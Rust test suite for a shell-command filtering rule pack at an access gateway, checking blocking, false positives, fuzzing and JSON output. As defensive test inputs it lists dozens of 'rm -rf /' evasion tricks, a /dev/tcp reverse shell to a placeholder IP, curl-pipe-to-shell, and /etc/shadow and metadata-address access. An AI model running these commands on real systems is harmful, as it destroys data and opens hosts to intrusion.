//! The default pack: it loads, its examples hold, evasions fail, and nothing panics.

use std::collections::BTreeMap;

use custos_rules::{
    Action, Context, Decision, Event, FileOp, Ruleset, check_sources, normalize, test_command,
};
use time::OffsetDateTime;

fn ctx() -> Context {
    // Wednesday 2026-11-25 10:00 UTC: inside business hours.
    let t =
        OffsetDateTime::from_unix_timestamp(1_764_064_800).unwrap_or(OffsetDateTime::UNIX_EPOCH);
    Context::new("alice", "web1", t)
}

fn pack() -> Ruleset {
    Ruleset::default_pack()
}

#[test]
fn default_pack_loads() {
    let sources = custos_rules::DEFAULT_PACK
        .iter()
        .map(|(n, y)| (n.to_string(), y.to_string()));
    let rs = Ruleset::from_sources(sources);
    assert!(
        rs.is_ok(),
        "{}",
        rs.err().map(|e| e.to_string()).unwrap_or_default()
    );
}

#[test]
fn default_pack_examples_hold() {
    let sources = custos_rules::DEFAULT_PACK
        .iter()
        .map(|(n, y)| (n.to_string(), y.to_string()));
    let failures = check_sources(sources);
    let report: Vec<String> = failures.iter().map(|d| d.to_string()).collect();
    assert!(
        report.is_empty(),
        "{} failing example(s):\n{}",
        report.len(),
        report.join("\n")
    );
}

#[test]
fn every_pack_rule_is_complete() {
    let rs = pack();
    let mut problems = Vec::new();
    let mut per_file: BTreeMap<String, usize> = BTreeMap::new();
    for s in rs.summaries() {
        *per_file.entry(s.file.clone()).or_default() += 1;
        if s.mitre.is_empty()
            || s.examples_match == 0
            || s.examples_no_match == 0
            || s.description.len() < 15
        {
            problems.push(format!(
                "{}:{}: {} lacks mitre, examples or a description",
                s.file, s.line, s.id
            ));
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(rs.len() >= 150, "pack has {} rules: {per_file:?}", rs.len());
}

const RM_ROOT: &str = "destructive.rm-rf-root";

#[test]
fn rm_rf_root_evasions_are_caught() {
    let rs = pack();
    let cases = [
        r"r\m -rf /",
        "'r'm -rf /",
        "\"rm\" -rf /",
        "rm${IFS}-rf${IFS}/",
        "rm$IFS-rf$IFS/",
        "/usr/bin/rm -rf /",
        "sudo -u root rm -rf /",
        "env X=1 rm -rf /",
        "nice -n 5 nohup timeout 10 rm -rf /",
        "busybox rm -rf /",
        "echo / | xargs rm -rf",
        "true; rm -rf /",
        "ls && rm -rf /",
        "false || rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "bash -c 'rm -rf /'",
        "sh -c \"rm -rf /\"",
        "rm\t-rf\t\t/",
        "rm    -rf     /",
        "rm -r -f /",
        "rm -fr /*",
        "rm --recursive --force --no-preserve-root /",
        "X=1 Y=2 rm -rf /",
        "doas rm -rf /",
        "sudo -E env -i PATH=/bin /bin/rm -rf /",
        "stdbuf -oL ionice -c 3 time rm -rf /",
        "exec rm -rf /",
        "command rm -rf /",
        "(cd /tmp && rm -rf /)",
        "bash -c \"sh -c 'rm -rf /'\"",
        "$'\\x72\\x6d' -rf /",
        "eval 'rm -rf /'",
        "rm -rf / &",
        "$(which rm) -rf /",
        "`command -v rm` -rf /",
        "r$()m -rf /",
        "echo 'rm -rf /' | sh",
        "printf 'rm -rf /' | bash",
        "ssh -p 2222 root@db1 'rm -rf /'",
        "echo / | xargs -I{} rm -rf {}",
        "if true; then rm -rf /; fi",
        "{ rm -rf /; }",
        "env -S 'rm -rf /'",
    ];
    let mut missed = Vec::new();
    for c in cases {
        let d = test_command(&rs, c, &ctx());
        if !d.matched(RM_ROOT) || d.action != Some(Action::Block) {
            missed.push(format!(
                "{c:?} -> {:?}",
                d.normalized.iter().map(|p| &p.text).collect::<Vec<_>>()
            ));
        }
    }
    assert!(missed.is_empty(), "not caught:\n{}", missed.join("\n"));
}

#[test]
fn harmless_look_alikes_pass() {
    let rs = pack();
    // `echo`'s arguments are data, not a command: printing "rm -rf /" deletes nothing.
    for c in [
        "rm -rf ./build",
        "echo rm -rf /",
        "rm -rf /tmp/build",
        "ls -la /",
        "grep -r 'rm -rf /' docs",
        "rm -f /tmp/x",
    ] {
        let d = test_command(&rs, c, &ctx());
        assert!(!d.matched(RM_ROOT), "{c:?} matched {RM_ROOT}");
    }
    for c in [
        "ls -la",
        "cd /var/www && git pull",
        "systemctl status nginx",
        "df -h",
        "tail -n 50 /var/log/nginx/access.log",
    ] {
        let d = test_command(&rs, c, &ctx());
        assert!(d.is_allowed(), "{c:?} -> {d}");
    }
}

#[test]
fn strongest_action_wins() {
    let rs = pack();
    let d = test_command(&rs, "nmap -sS 10.0.0.0/24; rm -rf /", &ctx());
    assert_eq!(d.action, Some(Action::Block), "{d}");
    assert!(d.matches.len() >= 2, "{d}");
    let d = test_command(&rs, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", &ctx());
    assert!(d.action >= Some(Action::Terminate), "{d}");
}

#[test]
fn other_event_kinds() {
    let rs = pack();
    let c = ctx();
    let d = rs.evaluate(
        &Event::FileTransfer {
            op: FileOp::Download,
            path: "/etc/shadow".into(),
        },
        &c,
    );
    assert!(!d.is_allowed(), "{d}");
    let d = rs.evaluate(
        &Event::PortForward {
            host: "169.254.169.254".into(),
            port: 80,
        },
        &c,
    );
    assert!(!d.is_allowed(), "{d}");
    let d = rs.evaluate(
        &Event::Output {
            text: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl".into(),
        },
        &c,
    );
    assert!(!d.is_allowed(), "{d}");
    let night =
        OffsetDateTime::from_unix_timestamp(1_764_039_600).unwrap_or(OffsetDateTime::UNIX_EPOCH);
    let ev = Event::SessionStart {
        user: "alice".into(),
        target: "web1".into(),
        source: "192.0.2.4".into(),
        time: night,
    };
    let d = rs.evaluate(&ev, &c);
    assert!(!d.is_allowed(), "{d}");
    let ev = Event::SessionStart {
        user: "alice".into(),
        target: "web1".into(),
        source: "192.0.2.4".into(),
        time: c.time,
    };
    assert!(rs.evaluate(&ev, &c).is_allowed());
}

#[test]
fn decision_is_serialisable_and_deterministic() {
    let rs = pack();
    let d1 = test_command(&rs, "sudo rm -rf / ; history -c", &ctx());
    let d2 = test_command(&rs, "sudo rm -rf / ; history -c", &ctx());
    assert_eq!(d1, d2);
    let json = serde_json::to_string(&d1).unwrap_or_default();
    let back: Decision = serde_json::from_str(&json).unwrap_or_default();
    assert_eq!(back, d1);
    assert!(json.contains("\"action\":\"block\""), "{json}");
}

/// Tiny deterministic generator, so the fuzz-ish test needs no extra crate.
struct XorShift(u64);
impl XorShift {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

#[test]
fn random_input_never_panics() {
    let rs = pack();
    let alphabet: Vec<char> = "rm -f/\\'\"$(){}`|&;<>\n\t IFS=xargs sudo bash -c *#!~é€\u{0}"
        .chars()
        .collect();
    let mut g = XorShift(0x9e37_79b9_7f4a_7c15);
    for _ in 0..20_000 {
        let len = (g.next() % 60) as usize;
        let s: String = (0..len)
            .map(|_| alphabet[(g.next() % alphabet.len() as u64) as usize])
            .collect();
        let _ = normalize(&s);
        let _ = test_command(&rs, &s, &ctx());
        let _ = rs.evaluate(&Event::Output { text: s.clone() }, &ctx());
    }
    // Deep nesting and long input stay bounded.
    let deep = "$(".repeat(5000) + &")".repeat(5000);
    let _ = normalize(&deep);
    let long = "a;".repeat(100_000);
    assert!(normalize(&long).len() <= 512);
    let _ = normalize(&"bash -c '".repeat(200));
    // Long hostile lines stay fast (linear), so one line cannot stall the gateway.
    let start = std::time::Instant::now();
    let evil = [
        "{ ".repeat(200_000),
        "sudo ".repeat(200_000),
        "a|".repeat(200_000),
        "$(".repeat(100_000),
        "'".repeat(200_000),
        "x ".repeat(200_000),
        "echo / | xargs ".repeat(20_000),
        "ssh h ".repeat(50_000),
    ];
    for e in &evil {
        let _ = test_command(&rs, e, &ctx());
    }
    let took = start.elapsed();
    assert!(took < std::time::Duration::from_secs(60), "took {took:?}");
}

#[test]
fn random_rule_files_never_panic() {
    let pieces = [
        "- id: x\n",
        "  match:\n",
        "    command:\n",
        "      regex: '(' \n",
        "  severity: high\n",
        "  action: block\n",
        "  mitre: [T1]\n",
        ": : :\n",
        "- [\n",
        "  description: d\n",
        "\t",
        "      program: rm\n",
        "  conditions: {within: [{from: '25:00', to: x}]}\n",
    ];
    let mut g = XorShift(42);
    for _ in 0..3000 {
        let n = (g.next() % 10) as usize;
        let s: String = (0..n)
            .map(|_| pieces[(g.next() % pieces.len() as u64) as usize])
            .collect();
        let _ = Ruleset::from_str("fuzz.yaml", &s);
    }
}

#[test]
#[ignore = "prints throughput; run with --release -- --ignored --nocapture"]
fn throughput() {
    let rs = pack();
    let c = ctx();
    let cmds = [
        "ls -la /var/www",
        "cd /srv/app && git pull && systemctl restart app",
        "sudo tail -f /var/log/syslog | grep error",
        "rm -rf /",
        "curl -fsSL https://example.com/install.sh | sh",
        "ps aux | grep nginx",
        "kubectl get pods -n prod",
        "vim /etc/nginx/nginx.conf",
    ];
    let n = 200_000;
    let mut times = Vec::with_capacity(n);
    let start = std::time::Instant::now();
    for i in 0..n {
        let t = std::time::Instant::now();
        let d = test_command(&rs, cmds[i % cmds.len()], &c);
        std::hint::black_box(d);
        times.push(t.elapsed());
    }
    let total = start.elapsed();
    times.sort();
    println!(
        "{} rules, {n} commands in {:?}: {:.0} commands/s, median {:?}, p99 {:?}",
        rs.len(),
        total,
        n as f64 / total.as_secs_f64(),
        times[n / 2],
        times[n * 99 / 100]
    );
}

/// Everyday administration must not raise alerts (false positives erode trust in the rules).
#[test]
fn routine_admin_commands_pass() {
    let rs = pack();
    let routine = [
        "ls -la /etc",
        "cd /srv/app && git pull --rebase && systemctl restart app",
        "sudo systemctl status nginx",
        "journalctl -u nginx --since '1 hour ago' | less",
        "tail -f /var/log/nginx/error.log | grep -v healthcheck",
        "df -h && free -m && uptime",
        "ps aux --sort=-%mem | head -20",
        "grep -rn TODO src/",
        "find /var/www -name '*.php' -mtime -1",
        "docker ps -a && docker logs --tail 100 web",
        "kubectl get pods -n prod -o wide",
        "vim /etc/nginx/sites-available/default",
        "nginx -t && sudo systemctl reload nginx",
        "apt-get update && apt-get install -y htop",
        "tar czf /tmp/app-logs.tgz /var/log/app",
        "rm -rf /tmp/build-1234",
        "chmod 640 /etc/app/config.yml",
        "chown -R www-data:www-data /var/www/html",
        "psql -c 'select count(*) from orders'",
        "redis-cli info replication",
        "curl -sf http://localhost:8080/health",
        "echo $PATH",
        "export EDITOR=vim",
        "history | tail",
        "du -sh /var/lib/docker/*",
        "sudo -u postgres psql",
        "systemctl list-timers",
        "openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
        "crontab -l",
        "ip addr show",
    ];
    let mut noisy = Vec::new();
    for c in routine {
        let d = test_command(&rs, c, &ctx());
        if !d.is_allowed() {
            noisy.push(format!(
                "{c:?}: {:?}",
                d.matches.iter().map(|m| &m.id).collect::<Vec<_>>()
            ));
        }
    }
    assert!(
        noisy.is_empty(),
        "routine commands raised alerts:\n{}",
        noisy.join("\n")
    );
}

/// The logged form of a decision is part of the contract with the audit log and the SIEM.
#[test]
fn decision_json_snapshot() {
    let rs = pack();
    let d = test_command(&rs, "sudo -u root rm -rf /", &ctx());
    let json = serde_json::to_string(&d).unwrap_or_default();
    let expected = concat!(
        r#"{"action":"block","matches":[{"id":"destructive.rm-rf-root","severity":"critical","#,
        r#""action":"block","mitre":["T1485"],"#,
        r#""description":"Recursive delete of the root filesystem (rm -r on /).","part":0}],"#,
        r#""normalized":[{"program":"rm","args":["-rf","/"],"wrappers":["sudo"],"text":"rm -rf /"}]}"#
    );
    assert_eq!(json, expected);
    let allowed = serde_json::to_string(&test_command(&rs, "ls", &ctx())).unwrap_or_default();
    assert_eq!(
        allowed,
        r#"{"action":null,"matches":[],"normalized":[{"program":"ls","args":[],"text":"ls"}]}"#
    );
}
